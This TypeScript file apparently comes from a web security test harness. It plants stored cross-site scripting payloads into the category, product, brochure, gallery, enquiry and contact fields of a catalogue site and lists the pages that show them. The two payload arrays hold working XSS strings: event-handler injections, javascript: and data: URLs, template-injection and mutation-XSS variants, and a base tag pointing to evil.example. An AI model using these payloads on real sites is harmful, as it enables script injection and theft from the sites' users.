import { somePng } from "./pictures.ts";
import type { Attempt, Target } from "./target.ts";
import { add, call, form, some } from "./target.ts";

/** What is written into every field; each sets the same mark if it ever runs. */
const PAYLOADS = [
  '"><img src=x onerror=window.__hit=1><script>window.__hit=1</script>',
  "</script><script>window.__hit=1</script><!--",
  "<svg/onload=window.__hit=1>",
  "javascript:window.__hit=1",
  '\'" autofocus onfocus=window.__hit=1 x="',
  "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
  "{{constructor.constructor('window.__hit=1')()}}$",
  "</title></textarea></style><img src=x onerror=alert(1)>",
  "\u2028window.__hit=1//<!--<script>",
  "<math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
];

/** Words that the site keeps as HTML. */
const RICH = [
  '<p onclick="window.__hit=1">a</p><a href="javascript:window.__hit=1">b</a><a href="&#106;avascript:window.__hit=1">c</a>',
  "<p>a<script>window.__hit=1</script><img src=x onerror=window.__hit=1><svg><script>window.__hit=1</script></svg></p>",
  '<p style="position:fixed;inset:0;background:url(javascript:window.__hit=1)">a</p><iframe src="javascript:parent.__hit=1"></iframe><object data="data:text/html,x"></object>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__hit=1&gt;'>",
  '<a href="data:text/html,<script>window.__hit=1</script>">a</a><form action="javascript:window.__hit=1"><button>b</button></form><base href="//evil.example/">',
  "<noscript><p title='</noscript><img src=x onerror=window.__hit=1>'></noscript>",
];

const PERSON = { email: "a@stone.example", phone: "+91 98765 43210" };

/**
 * Writes a payload into every field that anybody can write to, as staff and as a visitor; also says which pages show it.
 */
export async function planted(target: Target): Promise<{ attempts: Attempt[]; pages: string[] }> {
  const attempts: Attempt[] = [];
  const pages: string[] = [];
  const picture = new Blob([new Uint8Array(await somePng())], { type: "image/png" });
  const note = (what: string, status: number) => attempts.push({ what, ...(status >= 500 && { hit: `answered ${status}` }) });
  const put = async (what: string, path: string, body: FormData | object) => {
    const { status, data } = await add(target, path, body);
    note(what, status);
    return data;
  };

  const payloads = some(target, PAYLOADS, 2);
  for (const [place, words] of payloads.entries()) {
    const category = await put("a category's title", "/api/main-category", form({ title: words, image: picture }));
    const subcategory = await put(
      "a subcategory's title",
      "/api/main-subcategory",
      form({ title: words, main_category_id: String(category?._id), image: picture }),
    );
    const attributes = Object.fromEntries(["size", "finish", "thickness", "material", "recommended_use"].map((name) => [name, words]));
    const description = RICH[place % RICH.length] ?? "";
    const fields = {
      title: words,
      main_subcategory_id: String(subcategory?._id),
      description: `<p>Words</p>${description}`,
      image: picture,
      ...attributes,
    };
    const product = await put("a product's fields", "/api/subcategories", form(fields));
    if (product) pages.push(`/product/${category._id}/${subcategory._id}/${product.id}`);
    if (subcategory) pages.push(`/product/${category._id}/${subcategory._id}`, `/product/${category._id}`);
    const cover = {
      cover_image: picture,
      pdf_file: [new Blob(["%PDF-1.4\n%%EOF"], { type: "application/pdf" }), words] as [Blob, string],
    };
    const brochure = await put("a brochure's title", "/api/ebrochure", form({ title: words, ...cover }));
    await put("a picture's name", "/gallery/upload", form({ images: [picture, `${words}.png`] }));
    for (const [what, path, body] of visitors(words, brochure?.id)) {
      const { status } = await call(target, "POST", path, { headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
      note(what, status);
    }
  }
  await put("a slider's words", "/sliders/addSlider", form({ title: payloads[0] ?? "", description: payloads[1] ?? "", image: picture }));
  return { attempts, pages: ["/", "/product", "/gallery", "/ebrochure", "/contact", ...some(target, pages, 3)] };
}

const visitors = (words: string, brochure: number): [what: string, path: string, body: object][] => [
  ["an enquiry's words", "/api/inquiry/c", { ...PERSON, tileName: words, userName: words, message: words }],
  ["an enquiry's address", "/api/inquiry/c", { ...PERSON, tileName: "x", userName: "x", message: "x", email: `"${words}"@stone.example` }],
  ["an enquiry's number", "/api/inquiry/c", { ...PERSON, tileName: "x", userName: "x", message: "x", phone: words }],
  ["a message's words", "/api/contact/inquiry", { ...PERSON, name: words, message: words }],
  ["a reader's name", "/api", { name: words, email: PERSON.email, contact: "+919876543210", brochure_id: brochure }],
];
